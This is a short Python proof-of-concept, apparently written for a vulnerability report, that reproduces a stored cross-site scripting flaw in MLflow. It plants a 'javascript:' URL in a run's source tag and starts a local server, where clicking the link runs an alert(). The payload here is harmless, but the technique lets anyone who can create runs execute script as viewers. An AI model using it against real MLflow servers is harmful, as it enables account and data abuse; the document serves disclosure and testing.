"""MLflow: a run's source may be a `javascript:` link.

    pip install mlflow && python mlflow_source_link.py

It starts an MLflow server with such a run, and says what to click. Whoever may create a run can run
script as whoever opens it, with all that MLflow's API allows.
"""

import subprocess
import sys
import tempfile
import time
import urllib.request

from mlflow import MlflowClient

PORT = int(sys.argv[1]) if sys.argv[1:] else 5000
URL = f"http://127.0.0.1:{PORT}"

with tempfile.TemporaryDirectory() as folder:
    store = f"sqlite:///{folder}/mlflow.db"
    client = MlflowClient(store)
    tags = {
        "mlflow.source.type": "LOCAL",  # or PROJECT
        "mlflow.source.name": "javascript:alert(origin)//git/train.py",
    }
    run = client.create_run("0", tags=tags, run_name="click my source").info.run_id
    command = ["-m", "mlflow", "server", "--port", str(PORT), "--backend-store-uri", store]
    command += ["--workers", "1"]
    server = subprocess.Popen([sys.executable, *command], cwd=folder)
    try:
        while True:
            time.sleep(1)
            try:
                urllib.request.urlopen(f"{URL}/health")
                break
            except OSError:
                assert server.poll() is None, "the server did not start"
        print(f"\nOpen {URL}/#/experiments/0/runs/{run} and click `train.py` beside Source.")
        print("Expected: no link, as it is no http(s) address. Seen: alert() with MLflow's origin.")
        input("Press Enter to end the server. ")
    finally:
        server.terminate()
        server.wait()
